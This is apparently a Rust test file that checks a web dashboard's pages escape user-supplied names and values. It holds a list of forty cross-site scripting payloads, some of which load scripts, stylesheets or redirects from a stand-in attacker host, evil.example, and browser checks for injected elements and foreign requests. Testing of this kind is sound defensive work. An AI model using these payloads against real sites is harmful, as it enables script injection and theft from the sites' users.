//! Whatever stands in a name or a value is text: forty ways to be more than that, in a real browser and in the page itself.

use crate::browser::Browser;
use crate::every_page::serve;
use crate::place::Place;
use crate::showcase::{PLANTED, Showcase, everything};
use serde_json::json;

const PAYLOADS: [&str; 40] = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<<script>alert(1)//<</script>",
    "<script\t>alert(1)</script >",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=\"x\" onerror=\"alert(1)\">",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert`1`>",
    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
    "<style>@import '//evil.example/x.css';</style>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "\" onmouseover=\"alert(1)\" autofocus onfocus=\"alert(1)",
    "' onmouseover='alert(1)' autofocus onfocus='alert(1)",
    "\"><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;&#60;script&#62;",
    "{{constructor.constructor('alert(1)')()}}${alert(1)}",
];

/// As a page writes it.
fn written(text: &str) -> String {
    text.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;").replace('"', "&quot;")
}

#[tokio::test(flavor = "multi_thread")]
async fn s14_forty_payloads_are_text_wherever_they_stand() {
    let place = Place::open();
    for p in PAYLOADS {
        place.post("/v1/pools", json!({"name": p, "concurrency": 1, "by": p}).to_string()).await.ok();
    }
    let steps = PAYLOADS.map(|p| {
        json!({"action": p, "label": p, "step_key": p, "relatable_type": p, "relatable_id": p, "pool": p,
               "message_group": p, "mode": "block_on_error", "arguments": {p: [p]}})
    });
    let made = place.create(&json!(steps.to_vec()).to_string()).await;
    let mut pages: Vec<String> =
        ["/step-dispatcher/steps?limit=100", "/message-groups?limit=100", "/pools", "/audit?limit=100"]
            .map(String::from)
            .into();
    for path in &pages {
        let page = place.get(path).await;
        for p in PAYLOADS {
            assert!(page.text().contains(&written(p)), "{path} does not show {p}");
            assert_eq!(page.text().contains(p), written(p) == p, "{p} is in {path}");
        }
    }
    pages.extend(made.iter().map(|id| format!("/step-dispatcher/steps/{id}")));
    let url = serve(place.router.clone()).await;
    let mut browser = Browser::start();
    browser.look(1_440, "light");
    for path in &pages {
        browser.open(&format!("{url}{path}"));
        let planted = "document.querySelectorAll('iframe, object, embed, math, video, marquee, base, template, [onerror], [onload], [onfocus]').length";
        assert_eq!(browser.eval(planted), 0, "{path}");
        let foreign = "performance.getEntriesByType('resource').filter((one) => !one.name.startsWith(location.origin)).length";
        assert_eq!(browser.eval(foreign), 0, "{path} asks somebody else");
        assert_eq!(browser.complaints(), [""; 0], "{path}");
    }
    place.close().await;
}

/// Where the links, forms and assets of a page lead.
fn targets(html: &str) -> Vec<&str> {
    let names = [" href=\"", " src=\"", " action=\"", " formaction=\"", " xlink:href=\"", " poster=\""];
    let found = names.iter().flat_map(|name| html.split(name).skip(1));
    found.map(|rest| rest.split('"').next().unwrap()).collect()
}

/// Links are made of ids and names of ours; an address from outside is shown, and leads nowhere.
#[tokio::test(flavor = "multi_thread")]
async fn s19_every_link_of_every_page_leads_to_ourselves() {
    let Showcase { place, pages, .. } = everything().await;
    let mut seen = 0;
    for path in &pages {
        let page = place.get(path).await;
        for target in targets(page.text()) {
            let is_ours = target.starts_with(['/', '#', '?'])
                && !target.starts_with("//")
                && !target.starts_with("/\\");
            assert!(is_ours, "{path} leads to {target}");
            seen += 1;
        }
    }
    println!("{seen} links");
    assert!(seen > 1_000, "{seen}");
    place.close().await;
}

/// What is no page is not taken for one, even where somebody opens it in a browser.
#[tokio::test(flavor = "multi_thread")]
async fn s16_text_and_drawings_are_what_they_say() {
    let Showcase { place, failed_workflow, .. } = everything().await;
    let metrics = place.get("/metrics").await;
    assert!(metrics.headers["content-type"].to_str().unwrap().starts_with("text/plain"));
    assert!(metrics.text().contains("<script>alert(1)</script>"), "a pool has that name");
    let graph = place.get(&format!("/v1/workflows/{failed_workflow}/graph")).await;
    assert_eq!(
        (graph.status.as_u16(), &graph.headers["content-type"]),
        (200, &"image/svg+xml".parse().unwrap())
    );
    assert!(!graph.text().contains("<script"), "{}", graph.text());
    for path in ["/v1/steps", "/v1/pools", "/v1/workflows"] {
        let listed = place.get(path).await;
        assert_eq!(listed.headers["content-type"], "application/json");
        assert!(listed.text().contains("<script>"), "{path} holds {PLANTED}");
    }
    place.close().await;
}
